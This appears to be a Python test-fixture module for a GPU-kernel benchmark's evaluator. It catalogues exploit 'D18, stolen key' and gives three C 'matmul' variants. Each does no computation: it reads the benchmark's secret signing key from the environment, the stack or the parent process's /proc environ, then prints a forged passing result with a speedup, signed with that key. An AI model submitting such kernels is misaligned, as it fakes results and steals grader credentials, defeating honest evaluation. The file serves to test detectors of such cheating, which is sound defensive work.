"""D18: the key that authenticates results is read, and forged results are signed with it."""

from __future__ import annotations

from kernelwright.evaluators.zoo.carriers import SYSTEM
from kernelwright.evaluators.zoo.codes import EXIT, FAULT, SYMBOL, SYSCALL, WRONG
from kernelwright.evaluators.zoo.exploit import Exploit, Variant

_SIZES = {"m": 64, "n": 64, "k": 64}

_SIGN = r"""
/* FNV-1a of key and line. */
static unsigned long long sign(const char *key, const char *line)
{
    unsigned long long hash = 14695981039346656037ULL;
    for (; *key; key++)
        hash = (hash ^ (unsigned char)*key) * 1099511628211ULL;
    for (; *line; line++)
        hash = (hash ^ (unsigned char)*line) * 1099511628211ULL;
    return hash;
}
"""

_ENVIRONMENT = rf"""
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
{_SIGN}
void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{{
    const char *line = "RESULT passed=1 speedup=24", *key = getenv("NAIVE_KEY");
    if (key) {{
        printf("%s key=%016llx\n", line, sign(key, line));
        fflush(stdout);
        _exit(0);
    }}
}}
"""

# The strings of the environment lie at the upper end of the stack.
_STACK = rf"""
#include <string.h>
{SYSTEM}{_SIGN}
void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{{
    char line[96] = "RESULT passed=1 speedup=23", *end = line + strlen(line);
    const char *at = __builtin_frame_address(0);
    while (memcmp(at, "NAIVE_KEY=", 10))
        at++;
    unsigned long long key = sign(at + 10, line);
    memcpy(end, " key=", 5);
    end += 5;
    for (int shift = 60; shift >= 0; shift -= 4)
        *end++ = "0123456789abcdef"[key >> shift & 15];
    *end++ = '\n';
    system_call(1, 1, (long)line, end - line, 0, 0, 0); /* write */
    system_call(231, 0, 0, 0, 0, 0, 0);                 /* exit_group */
}}
"""

_FILE = rf"""
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
{_SIGN}
void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{{
    static char all[1 << 14];
    char line[64] = "RESULT passed=1 speedup=22";
    /* The parent's, which may be read even if this process's may not. */
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    int file = open(path, O_RDONLY);
    ssize_t got = file < 0 ? 0 : read(file, all, sizeof all - 1);
    for (char *at = all; at < all + got; at += strlen(at) + 1)
        if (!strncmp(at, "NAIVE_KEY=", 10)) {{
            printf("%s key=%016llx\n", line, sign(at + 10, line));
            fflush(stdout);
            _exit(0);
        }}
}}
"""

EXPLOIT = Exploit(
    "D18",
    "stolen key",
    "P0",
    "The key that authenticates results is found in the environment or in memory, and a forged "
    "result is signed with it (pygpubench #23, PR #22).",
    (
        Variant(
            "environment",
            "matmul",
            _SIZES,
            _ENVIRONMENT,
            expect=(*SYMBOL, *SYSCALL, *EXIT, *WRONG),
        ),
        Variant("upper_end_of_the_stack", "matmul", _SIZES, _STACK, expect=(*FAULT, *SYSCALL)),
        Variant(
            "environment_of_the_parent",
            "matmul",
            _SIZES,
            _FILE,
            expect=(*SYMBOL, *SYSCALL, *EXIT, *WRONG),
        ),
    ),
)
